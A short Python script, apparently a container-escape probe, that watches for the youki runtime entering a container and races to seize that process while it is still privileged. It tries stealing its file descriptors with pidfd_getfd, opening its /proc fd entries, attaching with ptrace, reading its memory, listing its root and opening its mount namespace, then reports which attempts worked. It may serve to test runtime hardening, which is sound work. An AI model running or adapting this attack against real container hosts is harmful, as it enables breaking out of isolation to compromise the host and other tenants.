# Tries to get hold of whoever enters this container, before he has become the program he is to run: while he still has the name
# of the library that brings him in. Says what was possible, and how many were tried once that is enough or `/tmp/enough` is there.
import ctypes, os, signal, time

libc = ctypes.CDLL(None, use_errno=True)
SEIZE, INTERRUPT, DETACH = 0x4206, 0x4207, 17
PIDFD_GETFD, WAIT_ALL = 438, 0x40000000
ENOUGH = 40


def enters(pid):
    try:
        return open(f"/proc/{pid}/comm").read().startswith("youki")
    except OSError:
        return False


def take_descriptors(pid):
    pidfd = os.pidfd_open(pid)
    try:
        return any(libc.syscall(PIDFD_GETFD, pidfd, fd, 0) >= 0 for fd in range(3, 64))
    finally:
        os.close(pidfd)


def open_descriptors(pid):
    for fd in os.listdir(f"/proc/{pid}/fd"):
        os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK))


def trace(pid):
    call = lambda *args: libc.ptrace(*(ctypes.c_long(a) for a in args))
    if call(SEIZE, pid, 0, 0) != 0:
        return False
    call(INTERRUPT, pid, 0, 0)
    os.waitpid(pid, WAIT_ALL)
    early = enters(pid)
    call(DETACH, pid, 0, 0)
    return early


def read_memory(pid):
    open(f"/proc/{pid}/mem", "rb").close()


def see_files(pid):
    os.listdir(f"/proc/{pid}/root")


def enter_namespaces(pid):
    os.close(os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY))


ATTEMPTS = [take_descriptors, open_descriptors, trace, read_memory, see_files, enter_namespaces]


def attack(pid):
    os.kill(pid, signal.SIGSTOP)
    try:
        for attempt in ATTEMPTS:
            try:
                done = attempt(pid)
            except OSError:
                continue
            if done is not False and enters(pid):
                print(attempt.__name__)
    finally:
        os.kill(pid, signal.SIGCONT)


met = set()
asked_to_end = lambda: os.path.exists("/tmp/enough")
while len(met) < ENOUGH and not asked_to_end():
    for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if pid not in met and enters(pid):
            met.add(pid)
            try:
                attack(pid)
            except OSError:
                pass
print(f"tried {len(met)}")
while not asked_to_end():
    time.sleep(0.01)
